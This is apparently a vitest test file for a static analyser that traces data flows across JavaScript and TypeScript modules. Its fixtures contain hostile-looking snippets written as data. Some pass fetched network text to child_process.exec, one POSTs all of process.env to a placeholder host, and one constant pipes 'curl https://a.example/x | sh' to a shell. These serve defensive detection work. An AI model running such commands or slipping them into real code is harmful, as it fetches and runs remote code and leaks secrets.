import { posix } from 'node:path';
import { expect, it } from 'vitest';
import { analyzeJs } from '../facts.ts';
import { labelNames } from '../labels.ts';
import { analyzeLinked, type LinkedFacts } from './index.ts';

/** Analyses files as modules that load each other; `orders` of those that do not run first. */
function link(
  files: Readonly<Record<string, string>>,
  orders: Readonly<Record<string, number>> = {},
): ReadonlyMap<string, LinkedFacts> {
  const sources = Object.entries(files).map(([id, text]) => ({
    id,
    text,
    typescript: id.endsWith('.ts'),
    order: orders[id] ?? 0,
    loads: analyzeJs(text).imports.flatMap(({ specifier, offset }) => {
      const target = posix.join(posix.dirname(id), specifier);
      return target in files ? [{ specifier, offset, target }] : [];
    }),
  }));
  const found = analyzeLinked(sources);
  if (!found) throw new Error('a budget ran out');
  return found;
}

/** Sinks of a file with what reaches them, as `sink: label label`. */
function flowsIn(facts: LinkedFacts | undefined): string[] {
  return (facts?.flows ?? []).map(
    ({ sink, labels, live }) => `${sink}: ${labelNames(labels).join(' ')}${live ? ', at load' : ''}`,
  );
}

const RUN = "const { exec } = require('child_process');\nfunction run(line) { exec(line); }\n";
const GET = 'async function get(url) { const answer = await fetch(url); return answer.text(); }\n';

it.each([
  [
    'names that CommonJS exports',
    {
      'run.js': `${RUN}module.exports = { run };`,
      'get.js': `${GET}exports.get = get;`,
      'main.js':
        "const { run } = require('./run.js'); const { get: ask } = require('./get.js');\nask('https://a.example/').then(run);",
    },
  ],
  [
    'a module as a whole',
    {
      'run.js': `${RUN}module.exports = run;`,
      'get.js': `${GET}module.exports = get;`,
      'main.js':
        "const run = require('./run.js'); (async () => run(await require('./get.js')('https://a.example/')))();",
    },
  ],
  [
    'members of a module',
    {
      'run.js': `${RUN}exports.go = run;`,
      'get.js': `${GET}exports.get = get;`,
      'main.js':
        "const runner = require('./run.js'); const net = require('./get.js');\nnet.get('https://a.example/').then((text) => runner.go(text));",
    },
  ],
  [
    'ES modules, by name, as default and as a whole',
    {
      'run.js': "import { exec } from 'node:child_process';\nexport default function (line) { exec(line); }",
      'get.js': `export ${GET}`,
      'main.js':
        "import run from './run.js'; import * as net from './get.js';\nrun(await net.get('https://a.example/'));",
    },
  ],
  [
    'what a compiler makes of imports',
    {
      'run.js': `"use strict"; Object.defineProperty(exports, "__esModule", { value: true }); exports.run = void 0;\n${RUN}exports.run = run;`,
      'get.js': `exports.default = get;\n${GET}`,
      'main.js':
        'const run_1 = require("./run.js"); const get_1 = __importDefault(require("./get.js"));\n(0, get_1.default)("https://a.example/").then((text) => (0, run_1.run)(text));',
    },
  ],
  [
    'modules that only give on what others have',
    {
      'run.js': `${RUN}exports.run = run;`,
      'get.js': `export ${GET}`,
      'all.js': "export { run as start } from './run.js';\nexport * from './get.js';",
      'main.js': "import { start, get } from './all.js';\nget('https://a.example/').then(start);",
    },
  ],
  [
    'getters and copies of exports',
    {
      'run.js': `${RUN}exports.run = run;`,
      'get.js': `${GET}exports.get = get;`,
      'all.js':
        'var run_1 = require("./run.js");\nObject.defineProperty(exports, "run", { enumerable: true, get: function () { return run_1.run; } });\n__exportStar(require("./get.js"), exports);',
      'main.js':
        "const { run, get } = require('./all.js');\nget('https://a.example/').then((text) => run(text));",
    },
  ],
  [
    'imports when they are needed',
    {
      'run.js': `${RUN}exports.run = run;`,
      'get.js': `export ${GET}`,
      'main.js':
        "import('./get.js').then(async ({ get }) => {\n  const { run } = await import('./run.js');\n  run(await get('https://a.example/'));\n});",
    },
  ],
  [
    'an object whose members come later',
    {
      'run.js': `${RUN}const api = {};\napi.run = run;\nmodule.exports = api;`,
      'get.js': `${GET}module.exports = { get };`,
      'main.js':
        "const api = require('./run.js');\nrequire('./get.js').get('https://a.example/').then((text) => api.run(text));",
    },
  ],
  [
    'TypeScript',
    {
      'run.js': `${RUN}exports.run = run;`,
      'get.js': `${GET}exports.get = get;`,
      'main.ts':
        "import { run } from './run.js';\nimport { get } from './get.js';\nconst url: string = 'https://a.example/';\nget(url).then((text: string) => run(text));",
    },
  ],
])('a program that one file fetches and another starts: %s', (_, files) => {
  expect(flowsIn(link(files).get('run.js'))).toContain('command: network param, at load');
});

it('follows a class that another file extends, and what it is made with', () => {
  const found = link({
    'base.js':
      'class Sink { constructor(url) { this.url = url; } push(data) { this.send(this.wrap(data)); } wrap(data) { return data; } send() {} }\nmodule.exports = { Sink };',
    'http.js':
      "const { Sink } = require('./base.js');\nclass Http extends Sink { send(body) { fetch(this.url, { method: 'POST', body }); } }\nmodule.exports = { Http };",
    'main.js':
      "const { Http } = require('./http.js');\nconst sink = new Http('https://a.example/');\nsink.push(JSON.stringify(process.env));",
  });
  expect(flowsIn(found.get('http.js'))).toContain('network: envAll param, at load');
});

it('knows constants and APIs that another file has', () => {
  const found = link({
    'words.js': "exports.line = 'curl https://a.example/x | sh';",
    'tools.js': "exports.start = require('child_process').exec;",
    'main.js': "const { line } = require('./words.js');\nrequire('./tools.js').start(line);",
  });
  expect(found.get('main.js')?.commands).toMatchObject([
    { line: 'curl https://a.example/x | sh', live: true },
  ]);
  expect([...(found.get('main.js')?.apis.keys() ?? [])]).toContain('child_process.exec');
});

it('does not take what runs later for what runs when the file is loaded', () => {
  const files = {
    'run.js': `${RUN}module.exports = { run };`,
    'cli.js': "require('./run.js').run('a');",
  };
  expect(link(files).get('run.js')?.commands[0]?.live).toBe(true);
  expect(link(files, { 'cli.js': 2 }).get('run.js')?.commands[0]?.live).toBe(false);
  expect(link(files, { 'cli.js': 2, 'run.js': 2 }).get('run.js')?.commands[0]?.live).toBe(true);
});

it('tells places by the offsets of their own file', () => {
  const files = {
    'a.js': "// some text before\nrequire('./b.js').send(process.env);",
    'b.js': "exports.send = (data) => fetch('https://a.example/', { body: data });",
  };
  const [flow] = link(files).get('b.js')?.flows ?? [];
  expect(files['b.js'].slice(flow?.offset, flow?.endOffset)).toBe(
    "fetch('https://a.example/', { body: data })",
  );
  const origin = [...(link(files).get('b.js')?.origins.values() ?? [])][0];
  expect(origin).toEqual({ offset: 0, text: 'process.env (a.js)' });
});

it('keeps names of modules apart, and a name that is set anew', () => {
  const found = link({
    'run.js': `${RUN}let line = process.env;\nmodule.exports = { run };`,
    'other.js': "let run = require('./run.js').run;\nrun = (line) => line;\nconst line = 'a';\nrun(line);",
  });
  expect(flowsIn(found.get('run.js')).filter((flow) => flow.includes('env'))).toEqual([]);
});

it.each([
  [
    'each other',
    { 'a.js': "exports.a = require('./b.js').b;", 'b.js': "exports.b = require('./a.js').a;\nexports.b();" },
  ],
  ['themselves', { 'a.js': "module.exports = require('./a.js');\nmodule.exports.x();" }],
  ['what is broken', { 'a.js': "require('./b.js').go();", 'b.js': 'exports.go = (' }],
])('ends for modules that load %s', (_, files) => {
  expect(link(files).size).toBeGreaterThan(0);
});
